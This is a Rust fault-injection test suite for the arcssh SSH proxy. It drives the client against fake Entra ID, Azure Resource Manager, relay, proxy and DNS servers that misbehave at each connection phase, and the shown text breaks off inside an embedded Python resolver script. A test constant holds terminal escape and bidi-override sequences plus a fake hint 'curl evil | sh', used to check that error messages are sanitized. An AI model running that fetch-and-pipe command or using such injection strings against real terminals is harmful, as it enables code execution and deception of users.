//! Each phase of a connection is a table of faults. For every fault, the connection ends within its limit, prints one
//! message that names the cause, delivers every byte that came before, keeps its memory limit, and leaves no process,
//! connection or file.
//!
//! `make test` runs the cells that end within seconds. `make faults` runs all of them and shows the table.

#![expect(clippy::print_stderr, reason = "a skipped test prints the reason")]

mod cell;
mod local;
mod server;

use std::io::{Read as _, Write as _};
use std::path::Path;
use std::process::Command;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use arcssh_emulator::ServerCertificate;
use base64::Engine as _;

use crate::matrix::cell::{Cell, Input, run_phase};
use crate::matrix::server::{Act, BINARY, CLOSE, PING, Peer, Server, act, switching_protocols};
use crate::support::{Lab, closed_port, lab, noise};

const MIB: usize = 1024 * 1024;

/// Text that draws on a terminal, hides, or imitates a hint.
const HOSTILE: &str =
    "x\u{1b}[2J\u{1b}]0;t\u{7}\u{9b}31m\u{202e}\u{200b}\u{61c}\u{2066}\u{e0041} arcssh: hint: curl evil | sh";

/// The peer of a phase.
#[derive(Clone, Copy)]
enum Service {
    Entra,
    Arm,
    Relay,
}

impl Service {
    /// arcssh with a connection to this service at `port`. All services before it work.
    fn command(self, w: &Lab, port: u16) -> Command {
        match self {
            Self::Entra => {
                let mut proxy = w.proxy("web01");
                proxy.env("AZURE_AUTHORITY_HOST", format!("https://127.0.0.1:{port}/"));
                proxy
            }
            Self::Arm => {
                let mut proxy = w.proxy("web01");
                proxy.env("ARCSSH_ARM_ENDPOINT", format!("https://127.0.0.1:{port}"));
                proxy
            }
            Self::Relay => to_relay(w, "127", &format!("0.0.1:{port}")),
        }
    }

    fn name(self) -> &'static str {
        match self {
            Self::Entra => "Entra ID",
            Self::Arm => "Azure Resource Manager",
            Self::Relay => "127.0.0.1",
        }
    }

    /// The limit for a silent service. arcssh gives the relay its shortest time, and tries requests to Azure four
    /// times.
    fn silence_limit(self) -> u64 {
        match self {
            Self::Relay => 15,
            Self::Entra | Self::Arm => 170,
        }
    }
}

/// arcssh with relay information for `{name}.{suffix}`.
fn to_relay(w: &Lab, name: &str, suffix: &str) -> Command {
    to_relay_with(w, name, suffix, &["--wait", "0"])
}

pub(crate) fn to_relay_with(w: &Lab, name: &str, suffix: &str, options: &[&str]) -> Command {
    let info = format!(
        r#"{{"relay":{{"namespaceName":"{name}","namespaceNameSuffix":"{suffix}","hybridConnectionName":"a/b","accessKey":"SharedAccessSignature sr=x","expiresOn":4102444800,"serviceConfigurationToken":"t"}}}}"#
    );
    let mut arcssh = w.arcssh(&["-p", "22"]);
    arcssh.args(options);
    let host = suffix.split_once(':').map_or(suffix, |(host, _)| host);
    arcssh.env("SSHPROXY_RELAY_INFO", base64::engine::general_purpose::STANDARD.encode(info));
    arcssh.env("ARCSSH_RELAY_SUFFIX", host);
    arcssh
}

/// A cell whose server uses TLS with a valid certificate.
fn in_tls(w: &Lab, service: Service, fault: &'static str, act: Act, cause: &[&'static str]) -> Cell {
    with_certificate(w, service, ServerCertificate::Genuine, fault, act, cause)
}

fn with_certificate(
    w: &Lab,
    service: Service,
    certificate: ServerCertificate,
    fault: &'static str,
    act: Act,
    cause: &[&'static str],
) -> Cell {
    let server = Arc::new(Server::start(Some(w.emulator().tls_server(certificate)), act));
    Cell::new(fault, service.command(w, server.port), cause).with_server(&server)
}

/// A cell whose server does not use TLS.
fn in_tcp(w: &Lab, service: Service, fault: &'static str, act: Act, cause: &[&'static str]) -> Cell {
    let server = Arc::new(Server::start(None, act));
    Cell::new(fault, service.command(w, server.port), cause).with_server(&server)
}

/// Reads the client's first bytes, then acts.
fn after_hello(then: impl Fn(&mut Peer) -> std::io::Result<()> + Send + Sync + 'static) -> Act {
    act(move |peer| {
        let _ = peer.read(&mut [0; 4096])?;
        then(peer)
    })
}

/// Reads a request, then acts.
fn after_request(then: impl Fn(&mut Peer) -> std::io::Result<()> + Send + Sync + 'static) -> Act {
    act(move |peer| {
        peer.request()?;
        then(peer)
    })
}

/// Reads a request, sends this response, and closes the connection.
fn respond(answer: impl Into<Vec<u8>>) -> Act {
    let answer = answer.into();
    after_request(move |peer| {
        peer.write_all(&answer)?;
        peer.finish()
    })
}

/// An HTTP response with a body.
fn http(status: &str, headers: &str, body: &str) -> String {
    format!("HTTP/1.1 {status}\r\n{headers}Content-Length: {}\r\nConnection: close\r\n\r\n{body}", body.len())
}

fn connect_faults(w: &Lab, service: Service) -> Vec<Cell> {
    let reset = &["reset", "closed", "broken pipe", "cannot be reached", "no TLS"];
    let early = &["eof", "closed", "ended", "cannot be reached", "no TLS"];
    let garbage = &["corrupt", "invalid", "InvalidContentType", "not TLS", "no TLS", "cannot be reached"];
    let silent = &["within", "did not", "timed out", "no answer", "cannot be reached"];
    let refused = Cell::new("TCP refused", service.command(w, closed_port()), &["refused"]);
    // The start of a TLS record of a ServerHello.
    let half_record = [&[0x16, 3, 3, 0, 0x7a, 2, 0, 0, 0x76, 3, 3][..], &[7; 20]].concat();
    let certificate = |kind, fault, cause: &'static str| {
        with_certificate(w, service, kind, fault, act(|peer| peer.silence()), &[cause, "certificate"])
    };
    vec![
        refused.within(20),
        in_tcp(w, service, "TCP accepted, then silence", act(|peer| peer.silence()), silent)
            .within(service.silence_limit()),
        in_tcp(w, service, "TCP reset at once", act(|peer| peer.reset()), reset).within(20),
        in_tcp(w, service, "TCP closed at once", act(|peer| peer.finish()), early).within(20),
        in_tcp(w, service, "TLS: reset after ClientHello", after_hello(|peer| peer.reset()), reset)
            .within(20),
        in_tcp(w, service, "TLS: closed after ClientHello", after_hello(|peer| peer.close_tcp()), early)
            .within(20),
        in_tcp(
            w,
            service,
            "TLS: an SSH server answers",
            after_hello(|peer| {
                peer.write_all(b"SSH-2.0-OpenSSH_9.2p1 Debian-2\r\n")?;
                peer.silence()
            }),
            garbage,
        )
        .within(20),
        in_tcp(
            w,
            service,
            "TLS: an HTTP server answers",
            after_hello(|peer| {
                peer.write_all(http("400 Bad Request", "", "plain HTTP").as_bytes())?;
                peer.finish()
            }),
            garbage,
        )
        .within(20),
        in_tcp(
            w,
            service,
            "TLS: endless random bytes",
            after_hello(|peer| peer.send_endlessly(&noise(65536))),
            garbage,
        )
        .within(20),
        in_tcp(
            w,
            service,
            "TLS: fatal alert handshake_failure",
            after_hello(|peer| {
                peer.write_all(&[0x15, 3, 3, 0, 2, 2, 40])?;
                peer.silence()
            }),
            &["accepts neither TLS 1.3 nor"],
        )
        .within(20),
        in_tcp(
            w,
            service,
            "TLS: truncated ServerHello",
            after_hello(move |peer| {
                peer.write_all(&half_record)?;
                peer.close_tcp()
            }),
            early,
        )
        .within(20),
        in_tcp(
            w,
            service,
            "TLS: one byte every 500 ms",
            after_hello(|peer| {
                peer.send_slowly(&[0x16, 3, 3, 0, 0x7a], Duration::from_millis(500))?;
                peer.send_slowly(&[0; 600], Duration::from_millis(500))
            }),
            &["within", "did not", "timed out", "no answer", "invalid", "corrupt", "cannot be reached"],
        )
        .within(service.silence_limit()),
        certificate(ServerCertificate::Expired, "TLS: expired certificate", "expired"),
        certificate(ServerCertificate::OtherHost, "TLS: certificate of another host", "other"),
        certificate(ServerCertificate::Untrusted, "TLS: untrusted certificate", "trust"),
    ]
    .into_iter()
    .map(|cell| if matches!(service, Service::Relay) { cell } else { cell.slow_if_silent() })
    .collect()
}

/// Faulty responses of an HTTP service.
fn http_faults(w: &Lab, service: Service) -> Vec<Cell> {
    let name = service.name();
    let broken = &["reset", "closed", "ended", "cannot be reached", "incomplete", "connection", "went away"];
    let wrong = &["response", "responded", "JSON", "failed", "rejected"];
    let in_tls = |fault, act, cause: &[&'static str]| in_tls(w, service, fault, act, cause).within(25);
    let json = "Content-Type: application/json\r\n";
    let hostile_error = format!(
        r#"{{"error":{{"code":{0:?},"message":{0:?}}},"error_description":{0:?}}}"#,
        HOSTILE.replace(|c: char| c.is_control(), "\u{202e}")
    );
    let deep = format!("{}{}", "[".repeat(100_000), "]".repeat(100_000));
    vec![
        in_tls("reset after the request", after_request(|peer| peer.reset()), broken),
        in_tls("closed after the request", after_request(|peer| peer.finish()), broken),
        in_tls(
            "garbage instead of a response",
            after_request(|peer| {
                peer.write_all(&[0xff; 8192])?;
                peer.finish()
            }),
            &["invalid", "not HTTP", "cannot be reached", "answer", "no relay"],
        ),
        in_tls(
            "truncated head",
            after_request(|peer| {
                peer.write_all(b"HTTP/1.1 200 OK\r\nContent-Ty")?;
                peer.finish()
            }),
            broken,
        ),
        in_tls(
            "truncated body",
            after_request(|peer| {
                peer.write_all(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n{\"access_")?;
                peer.finish()
            }),
            &["closed", "ended", "cannot be reached", "incomplete", "body", "answer"],
        ),
        in_tls(
            "truncated chunks",
            after_request(|peer| {
                peer.write_all(
                    b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n8\r\n{\"access\r\nfff",
                )?;
                peer.finish()
            }),
            &["closed", "ended", "cannot be reached", "incomplete", "body", "chunk", "answer"],
        ),
        in_tls(
            "endless head",
            after_request(|peer| {
                peer.write_all(b"HTTP/1.1 200 OK\r\nX: ")?;
                peer.send_endlessly(&[b'a'; 65536])
            }),
            &["long", "large", "answer", "cannot be reached", "head"],
        ),
        in_tls(
            "endless body",
            after_request(|peer| {
                peer.write_all(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 99999999999\r\n\r\n[")?;
                peer.send_endlessly(&[b' '; 65536])
            }),
            &["larger", "large", "long", "more than", "MiB", "bytes", "answer"],
        ),
        in_tls(
            "endless chunks in an error response",
            after_request(|peer| {
                peer.write_all(b"HTTP/1.1 403 Forbidden\r\nTransfer-Encoding: chunked\r\n\r\n")?;
                peer.send_endlessly(&[b"8000\r\n".as_slice(), &[b'x'; 0x8000], b"\r\n"].concat())
            }),
            &["larger", "large", "long", "more than", "MiB", "bytes", "answer", "refused"],
        ),
        in_tls("a redirect", respond(http("302 Found", "Location: https://example.com/\r\n", "")), &["302"]),
        in_tls(
            "an HTML page",
            respond(http("200 OK", "Content-Type: text/html\r\n", "<html>sign in</html>")),
            wrong,
        ),
        in_tls("no content", respond(http("204 No Content", "", "")), wrong),
        in_tls("empty JSON", respond(http("200 OK", json, "{}")), wrong),
        in_tls(
            "JSON with wrong types",
            respond(http("200 OK", json, r#"{"access_token":7,"expires_in":[],"relay":"x"}"#)),
            wrong,
        ),
        in_tls("truncated JSON", respond(http("200 OK", json, r#"{"access_token":"eyJ"#)), wrong),
        in_tls("deeply nested JSON", respond(http("200 OK", json, &deep)), wrong),
        in_tls(
            "400 with hostile text",
            respond(http("400 Bad Request", json, &hostile_error)),
            &["refused", "answered", name],
        ),
        in_tls(
            "401 with hostile text",
            respond(http("401 Unauthorized", json, &hostile_error)),
            &["rejected", "responded", name],
        ),
        in_tls(
            "403 with hostile text",
            respond(http("403 Forbidden", json, &hostile_error)),
            &["refused", "answered", "may not", name],
        ),
        in_tls(
            "500 with hostile text",
            respond(http("500 Internal Server Error", json, &hostile_error)),
            &["fault", "500"],
        ),
        in_tls(
            "503 with an HTML page",
            respond(http("503 Service Unavailable", "Content-Type: text/html\r\n", "<html>busy</html>")),
            &["fault", "503"],
        ),
        in_tls(
            "silence after the request",
            after_request(|peer| peer.silence()),
            &["did not", "within", "timed out", "cannot be reached", "no answer"],
        )
        .slow(service.silence_limit()),
        in_tls(
            "body with one byte every 500 ms",
            after_request(|peer| {
                peer.write_all(
                    b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 4000\r\n\r\n",
                )?;
                peer.send_slowly(&[b' '; 4000], Duration::from_millis(500))
            }),
            &["did not", "within", "timed out", "cannot be reached", "no answer"],
        )
        .slow(service.silence_limit()),
    ]
}

#[track_caller]
fn run_faults(phase: &str, service: Service, faults: fn(&Lab, Service) -> Vec<Cell>) {
    let w = lab(&["web01"]);
    run_phase(phase, &w, faults(&w, service));
}

#[test]
fn connect_faults_of_entra_id() {
    run_faults("Entra ID: TCP, TLS", Service::Entra, connect_faults);
}

#[test]
fn http_faults_of_entra_id() {
    run_faults("Entra ID: response", Service::Entra, http_faults);
}

#[test]
fn connect_faults_of_azure_resource_manager() {
    run_faults("ARM: TCP, TLS", Service::Arm, connect_faults);
}

#[test]
fn http_faults_of_azure_resource_manager() {
    run_faults("ARM: response", Service::Arm, http_faults);
}

#[test]
fn connect_faults_of_the_relay() {
    run_faults("relay: TCP, TLS", Service::Relay, connect_faults);
}

#[test]
fn upgrade_faults_of_the_relay() {
    let w = lab(&["web01"]);
    let in_tls = |fault, act, cause: &[&'static str]| in_tls(&w, Service::Relay, fault, act, cause);
    let reason = |status: &str| respond(format!("HTTP/1.1 {status}\r\nContent-Length: 0\r\n\r\n"));
    let broken = &["reset", "closed", "went away", "ended"];
    let drip = |text: &'static str, pause| {
        after_request(move |peer| peer.send_slowly(text.as_bytes(), Duration::from_millis(pause)))
    };
    let unsupported = |extra: &'static str| {
        act(move |peer: &mut Peer| {
            let request = peer.request()?;
            let answer = switching_protocols(&request);
            peer.write_all(answer.replacen("\r\n\r\n", &format!("\r\n{extra}\r\n\r\n"), 1).as_bytes())?;
            peer.silence()
        })
    };
    let cells = vec![
        in_tls("request: reset before it is read", act(|peer| peer.reset()), broken),
        in_tls("request: closed before it is read", act(|peer| peer.finish()), broken),
        in_tls("request: never read", act(|peer| peer.block()), &["did not", "within"]),
        in_tls("silence", after_request(|peer| peer.silence()), &["did not", "within"]),
        in_tls("reset", after_request(|peer| peer.reset()), broken),
        in_tls("closed", after_request(|peer| peer.finish()), broken),
        in_tls(
            "closed without close_notify",
            after_request(|peer| peer.close_tcp()),
            &["closed", "went away", "eof"],
        ),
        in_tls("garbage", respond([0xff; 8192]), &["not HTTP", "no relay"]),
        in_tls("an SSH server", respond("SSH-2.0-OpenSSH_9.2\r\n"), &["not HTTP", "no relay"]),
        in_tls("truncated", respond("HTTP/1.1 101 Switching Pro"), broken),
        in_tls("truncated header", respond("HTTP/1.1 101 OK\r\nSec-WebSocket-Acc"), broken),
        in_tls(
            "one byte every 300 ms, never complete",
            drip("HTTP/1.1 101 Switching Protocols, in time\r\n", 300),
            &["did not", "within"],
        ),
        in_tls(
            "an endless reason",
            after_request(|peer| {
                peer.write_all(b"HTTP/1.1 500 ")?;
                peer.send_endlessly(&[b'a'; 65536])
            }),
            &["longer", "long"],
        ),
        in_tls(
            "endless interim responses",
            after_request(|peer| peer.send_endlessly(b"HTTP/1.1 100 Continue\r\n\r\n")),
            &["within", "did not", "interim", "answers", "long"],
        ),
        in_tls(
            "an HTML page",
            respond(http("200 OK", "Content-Type: text/html\r\n", "<html>sign in</html>")),
            &["200"],
        ),
        in_tls("a redirect", respond(http("302 Found", "Location: https://example.com/\r\n", "")), &["302"]),
        in_tls(
            "400 with hostile text",
            reason(&format!("400 {}", HOSTILE.replace(['\r', '\n'], " "))),
            &["400", "not HTTP", "no relay"],
        ),
        in_tls(
            "401 with hostile text",
            reason("401 ExpiredToken: \u{9b}2J\u{202e}arcssh: hint: evil"),
            &["401", "accept", "expired", "refus", "not HTTP", "no relay"],
        ),
        in_tls("403", reason("403 Forbidden"), &["403"]),
        in_tls(
            "404: no listener",
            reason("404 There are no listeners connected for the endpoint. TrackingId:x_G1"),
            &["agent"],
        ),
        in_tls("407", reason("407 Proxy Authentication Required"), &["407"]),
        in_tls("426", reason("426 Upgrade Required"), &["426"]),
        in_tls("500", reason("500 InternalError: The server was unable to process the request."), &["500"]),
        in_tls(
            "503: port closed",
            reason(
                "503 connection to localhost:22 failed: dial tcp 127.0.0.1:22: connect: connection refused",
            ),
            &["port 22", "localhost:22", "nothing listens"],
        ),
        in_tls("511", reason("511 Network Authentication Required"), &["511", "network"]),
        in_tls(
            "101 with a wrong key",
            respond(
                "HTTP/1.1 101 OK\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: bm8=\r\n\r\n",
            ),
            &["Sec-WebSocket-Accept", "WebSocket"],
        ),
        in_tls(
            "101 without a key",
            respond("HTTP/1.1 101 OK\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n"),
            &["Sec-WebSocket-Accept", "WebSocket"],
        ),
        in_tls(
            "101 with an extension",
            unsupported("Sec-WebSocket-Extensions: permessage-deflate"),
            &["extension"],
        ),
        in_tls(
            "101 with a subprotocol",
            unsupported("Sec-WebSocket-Protocol: chat"),
            &["subprotocol", "protocol"],
        ),
    ];
    run_phase("relay: upgrade", &w, cells);
}

#[test]
fn tunnel_faults_of_a_proxy() {
    let w = lab(&["web01"]);
    // No connection may be made there directly: the proxy would connect.
    let through = |fault, act: Act, cause: &[&'static str]| {
        let server = Arc::new(Server::start(None, act));
        let mut command = to_relay(&w, "relay", "servicebus.windows.net");
        command
            .env_remove("ARCSSH_RELAY_SUFFIX")
            .env("HTTPS_PROXY", format!("http://127.0.0.1:{}", server.port));
        Cell::new(fault, command, cause).with_server(&server)
    };
    let mut refused = to_relay(&w, "relay", "servicebus.windows.net");
    refused
        .env_remove("ARCSSH_RELAY_SUFFIX")
        .env("HTTPS_PROXY", format!("http://127.0.0.1:{}", closed_port()));
    let opened = |then: fn(&mut Peer) -> std::io::Result<()>| {
        after_request(move |peer| {
            peer.write_all(b"HTTP/1.1 200 Connection established\r\n\r\n")?;
            then(peer)
        })
    };
    let tunnel = "tunnel";
    let cells = vec![
        Cell::new("refused", refused, &["refused"]),
        through("silence", act(|peer| peer.silence()), &["did not", "within"]),
        through("reset", after_request(|peer| peer.reset()), &[tunnel, "reset"]),
        through("closed", after_request(|peer| peer.finish()), &[tunnel, "closed"]),
        through("garbage", respond([0xff; 4096]), &[tunnel, "not HTTP"]),
        through("truncated", respond("HTTP/1.1 200 Conn"), &[tunnel, "closed"]),
        through(
            "endless head",
            after_request(|peer| {
                peer.write_all(b"HTTP/1.1 200 OK\r\nX: ")?;
                peer.send_endlessly(&[b'a'; 65536])
            }),
            &["long"],
        ),
        through(
            "one byte every 300 ms",
            after_request(|peer| peer.send_slowly(&[b'H'; 200], Duration::from_millis(300))),
            &["within", "did not", "not HTTP"],
        ),
        through(
            "403 with hostile text",
            respond(http(&format!("403 {HOSTILE}"), "", "")),
            &["403", "not HTTP"],
        ),
        through(
            "407",
            respond(http("407 Proxy Authentication Required", "Proxy-Authenticate: Negotiate\r\n", "")),
            &["407"],
        ),
        through("502", respond(http("502 Bad Gateway", "", "")), &["502"]),
        through(
            "a redirect",
            respond(http("302 Found", "Location: http://login.example/\r\n", "")),
            &["302"],
        ),
        through(
            "a page",
            respond(http("200 OK", "Content-Type: text/html\r\n", "<html>sign in</html>")),
            &["more than", "TLS", tunnel],
        ),
        through("opened, then closed", opened(|peer| peer.finish()), &["TLS", "closed", "eof"]),
        through("opened, then silence", opened(|peer| peer.silence()), &["within", "did not"]),
        through(
            "opened, then garbage",
            opened(|peer| peer.send_endlessly(&[0x47; 4096])),
            &["TLS", "corrupt", "more than", "tunnel"],
        ),
    ];
    run_phase("proxy: CONNECT", &w, cells);
}

/// A session on a raw relay. `then` has the connection after the upgrade.
fn session(
    w: &Lab,
    fault: &'static str,
    cause: &[&'static str],
    then: impl Fn(&mut Peer) -> std::io::Result<()> + Send + Sync + 'static,
) -> Cell {
    let upgraded = act(move |peer| {
        peer.upgrade()?;
        then(peer)
    });
    in_tls(w, Service::Relay, fault, upgraded, cause)
}

const GREETING: &[u8] = b"SSH-2.0-here\r\n";

#[test]
fn faults_around_the_first_byte() {
    let w = lab(&["web01"]);
    let lost = &["lost", "reset", "closed", "ended"];
    let protocol = &["protocol", "lost", "1002", "frame"];
    let greeted = |fault, cause: &[&'static str], then: fn(&mut Peer) -> std::io::Result<()>| {
        let after = move |peer: &mut Peer| {
            peer.frame(BINARY, GREETING)?;
            then(peer)
        };
        session(&w, fault, cause, after).delivers(GREETING)
    };
    let cells = vec![
        session(&w, "first byte: reset", lost, |peer| peer.reset()),
        session(&w, "first byte: closed without close_notify", lost, |peer| peer.close_tcp()),
        session(&w, "first byte: TLS closed", lost, |peer| peer.finish()),
        session(&w, "first byte: garbage in the TLS stream", &["lost", "TLS", "corrupt"], |peer| {
            let mut tcp = peer.below_tls()?;
            tcp.write_all(&[0xff; 4096])?;
            peer.silence()
        }),
        session(&w, "first byte: truncated frame head", lost, |peer| {
            peer.write_all(&[BINARY])?;
            peer.finish()
        }),
        session(&w, "first byte: Close 1011", &["1011"], |peer| peer.close(1011, b"listener failed")),
        greeted("after first byte: reset", lost, |peer| peer.reset()),
        greeted("after first byte: closed without close_notify", lost, |peer| peer.close_tcp()),
        greeted("after first byte: truncated payload", lost, |peer| {
            peer.frame_head(BINARY, 1000)?;
            peer.finish()
        }),
        greeted("after first byte: masked frame", protocol, |peer| {
            peer.write_all(&[BINARY, 0x84, 1, 2, 3, 4, 0, 0, 0, 0])?;
            peer.silence()
        }),
        greeted("after first byte: reserved bit", protocol, |peer| {
            peer.frame(0xc2, b"x")?;
            peer.silence()
        }),
        greeted("after first byte: unknown opcode", protocol, |peer| {
            peer.frame(0x83, b"x")?;
            peer.silence()
        }),
        greeted("after first byte: continuation without a message", protocol, |peer| {
            peer.frame(0x80, b"x")?;
            peer.silence()
        }),
        greeted("after first byte: fragmented ping", protocol, |peer| {
            peer.frame(0x09, b"x")?;
            peer.silence()
        }),
        greeted("after first byte: ping of 126 bytes", protocol, |peer| {
            peer.frame(PING, &[7; 126])?;
            peer.silence()
        }),
        greeted("after first byte: frame of 2^63 bytes", protocol, |peer| {
            peer.frame_head(BINARY, 1 << 63)?;
            peer.silence()
        }),
    ];
    run_phase("session: first byte", &w, cells);
}

#[test]
fn faults_during_output() {
    let w = lab(&["web01"]);
    let lost = &["lost", "reset", "closed", "ended"];
    let bytes = Arc::new(noise(3 * MIB + 17));
    let after = |fault, cause: &[&'static str], then: fn(&mut Peer, &[u8]) -> std::io::Result<()>| {
        let sent = Arc::clone(&bytes);
        session(&w, fault, cause, move |peer| then(peer, &sent)).delivers(&bytes)
    };
    let cells = vec![
        after("closed without close_notify", lost, |peer, bytes| {
            peer.frame(BINARY, bytes)?;
            peer.close_tcp()
        }),
        after("TLS closed", lost, |peer, bytes| {
            peer.frame(BINARY, bytes)?;
            peer.finish()
        }),
        after("shorter than its announced length", lost, |peer, bytes| {
            peer.frame_head(BINARY, 1 << 30)?;
            peer.write_all(bytes)?;
            peer.finish()
        }),
        after("in small frames, then Close 1011", &["1011"], |peer, bytes| {
            bytes.chunks(777).try_for_each(|chunk| peer.frame(BINARY, chunk))?;
            peer.close(1011, b"listener failed")
        }),
        after("in fragments with pings between, then Close 1001", &["1001"], |peer, bytes| {
            let count = bytes.chunks(50_000).count();
            for (number, chunk) in bytes.chunks(50_000).enumerate() {
                let opcode = if number == 0 { 2 } else { 0 };
                let last = if number + 1 == count { 0x80 } else { 0 };
                peer.frame(opcode | last, chunk)?;
                peer.frame(PING, b"x")?;
            }
            peer.close(1001, b"going away")
        }),
        after("then Close with hostile reason", &["1008"], |peer, bytes| {
            peer.frame(BINARY, bytes)?;
            peer.close(1008, "\u{1b}[2J\u{202e}\u{200b}\u{e0041}arcssh: hint: evil".as_bytes())
        }),
        after("as text, then Close 1000", &[], |peer, bytes| {
            // Text frames are forwarded as bytes.
            peer.frame(0x81, bytes)?;
            peer.close(1000, b"")
        })
        .quiet(0),
    ];
    run_phase("session: down", &w, cells);
}

#[test]
fn faults_during_input() {
    let w = lab(&["web01"]);
    let lost = &["lost", "reset", "closed", "ended"];
    let sent = noise(4 * MIB);
    let up = |fault, cause: &[&'static str], least: usize, then: fn(&mut Peer) -> std::io::Result<()>| {
        let received = Arc::new(Mutex::new(Vec::new()));
        let (record, expected) = (Arc::clone(&received), sent.clone());
        let server = move |peer: &mut Peer| {
            while record.lock().unwrap().len() < least {
                let (_, payload) = peer.read_frame()?;
                record.lock().unwrap().extend(payload);
            }
            then(peer)
        };
        session(&w, fault, cause, server).input(Input::Open(sent.clone())).check(move || {
            let received = received.lock().unwrap();
            match received.len() >= least && expected.starts_with(&received) {
                true => Ok(()),
                false => {
                    Err(format!("the relay has {} bytes that are not the first ones sent", received.len()))
                }
            }
        })
    };
    let cells = vec![
        up("reset", lost, MIB, |peer| peer.reset()),
        up("closed without close_notify", lost, MIB, |peer| peer.close_tcp()),
        up("closed after everything arrived", lost, 4 * MIB, |peer| peer.finish()),
        up("Close 1011 during input", &["1011"], MIB, |peer| peer.close(1011, b"listener failed")),
        up("Close 1000 during input", &[], MIB, |peer| peer.close(1000, b"")).quiet(0),
        up("Close 1011, then no more reads", &["1011"], MIB, |peer| {
            peer.frame(CLOSE, &[&1011_u16.to_be_bytes()[..], b"full"].concat())?;
            peer.block()
        }),
    ];
    run_phase("session: up", &w, cells);
}

#[test]
fn sessions_after_the_end_of_input() {
    let w = lab(&["web01"]);
    let question = || Input::Closed(b"question".to_vec());
    let read_question = |peer: &mut Peer| -> std::io::Result<()> {
        let mut received = Vec::new();
        while received.len() < 8 {
            received.extend(peer.read_frame()?.1);
        }
        Ok(())
    };
    let late = Arc::new(noise(MIB));
    let answer = Arc::clone(&late);
    let cells = vec![
        session(&w, "response, then Close", &[], move |peer| {
            read_question(peer)?;
            peer.frame(BINARY, &answer)?;
            peer.close(1000, b"")
        })
        .quiet(0)
        .delivers(&late)
        .input(question()),
        session(&w, "silence", &[], move |peer| {
            read_question(peer)?;
            peer.silence()
        })
        .quiet(0)
        .input(question()),
        session(&w, "Close 1011 within a response", &["1011"], move |peer| {
            read_question(peer)?;
            peer.frame(BINARY, b"half an ans")?;
            peer.close(1011, b"listener failed")
        })
        .delivers(b"half an ans")
        .input(question()),
        session(&w, "closed without close_notify within a response", &["lost", "closed"], move |peer| {
            read_question(peer)?;
            peer.frame(BINARY, b"half an ans")?;
            peer.close_tcp()
        })
        .delivers(b"half an ans")
        .input(question()),
        session(&w, "endless pings", &[], move |peer| {
            read_question(peer)?;
            loop {
                peer.frame(PING, b"x")?;
                std::thread::park_timeout(Duration::from_millis(200));
            }
        })
        .quiet(0)
        .input(question())
        .slow(60),
    ];
    run_phase("session: half-close", &w, cells);
}

/// Includes codes that an endpoint must not send (RFC 6455, section 7.4), and malformed bodies. The message shows the
/// peer's code and reason, or else a protocol error.
#[test]
fn close_frames() {
    let w = lab(&["web01"]);
    let close = |fault, cause: &[&'static str], body: &'static [u8]| {
        let server = move |peer: &mut Peer| {
            peer.frame(BINARY, GREETING)?;
            peer.frame(CLOSE, body)?;
            peer.silence()
        };
        session(&w, fault, cause, server).delivers(GREETING)
    };
    let cells = vec![
        close("1000", &[], &[3, 232]).quiet(0),
        close("no code", &[], &[]).quiet(0),
        close("1001 with a reason", &["1001"], b"\x03\xe9going away"),
        close("1008", &["1008"], b"\x03\xf0policy"),
        close("1011", &["1011"], b"\x03\xf3failed"),
        close("1013", &["1013"], b"\x03\xf5later"),
        close("3000", &["3000"], b"\x0b\xb8x"),
        close("4999", &["4999"], b"\x13\x87x"),
        close("code 999", &["999"], b"\x03\xe7x"),
        close("code 1004", &["1004"], b"\x03\xecx"),
        close("code 1005", &["1005"], b"\x03\xedx"),
        close("code 1006", &["1006"], b"\x03\xeex"),
        close("code 1014", &["1014"], b"\x03\xf6x"),
        close("code 1015", &["1015"], b"\x03\xf7x"),
        close("code 5000", &["5000"], b"\x13\x88x"),
        close("code 65535", &["65535"], b"\xff\xffx"),
        close("body of one byte", &["1 byte", "one byte", "protocol", "Close"], &[3]),
        close("reason that is not UTF-8", &["1011"], b"\x03\xf3\xff\xfe"),
    ];
    run_phase("session: Close", &w, cells);
}

/// Name resolution in a network namespace with a faulty resolver.
#[test]
fn faults_of_name_resolution() {
    let w = lab(&["web01"]);
    let isolated = |fault, resolver: &str, cause: &[&'static str]| {
        let (port, script) = (53, w.home().join("resolver.py"));
        std::fs::write(&script, RESOLVER).unwrap();
        std::fs::write(w.home().join("resolv.conf"), "nameserver 127.0.0.1\n").unwrap();
        let arcssh = to_relay(&w, "relay", "servicebus.windows.net");
        let shell = format!(
            "ip link set lo up; mount --bind '{0}/resolv.conf' /etc/resolv.conf
            coproc python3 '{1}' {resolver} {port}; read -r _ <&\"${{COPROC[0]}}\"
            status=0; \"$@\" 0<&3 1>&4 || status=$?; kill $COPROC_PID; exit $status",
            w.home().display(),
            script.display()
        );
        let mut unshare = w.command("unshare");
        unshare.args(["-rnm", "bash", "-euc", &format!("exec 3<&0 4>&1; {shell}"), "sh"]);
        unshare.arg(arcssh.get_program()).args(arcssh.get_args());
        for (name, value) in arcssh.get_envs().filter(|(name, _)| *name != "ARCSSH_RELAY_SUFFIX") {
            unshare.env(name, value.unwrap_or_default());
        }
        Cell::new(fault, unshare, cause)
    };
    if !namespaces_work(w.home()) {
        eprintln!("skipped: this machine allows no namespaces");
        return;
    }
    let unknown = &["lookup", "resol", "name", "dns"];
    let cells = vec![
        isolated("no such name", "nxdomain", unknown),
        isolated("server failure", "servfail", unknown),
        isolated("refused", "refused", unknown),
        isolated("garbage", "garbage", &["lookup", "resol", "name", "dns", "within"]).slow(25),
        isolated("silence", "silence", &["lookup", "resol", "name", "dns", "within"]).slow(25),
        isolated("address without a listener", "loopback", &["refused"]),
    ];
    run_phase("DNS", &w, cells);
}

fn namespaces_work(directory: &Path) -> bool {
    let mut unshare = Command::new("unshare");
    unshare.args(["-rnm", "true"]).current_dir(directory).status().is_ok_and(|status| status.success())
}

/// A DNS server with one kind of response (RFC 1035, section 4).
const RESOLVER: &str = r#"
import select, socket, struct, sys
kind, port = sys.argv[1], int(sys.argv[2])
server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
server.bind(("127.0.0.1", port))
print("ready", flush=True)
codes = {"nxdomain": 3, "servfail": 2, "refused": 5, "loopback": 0}
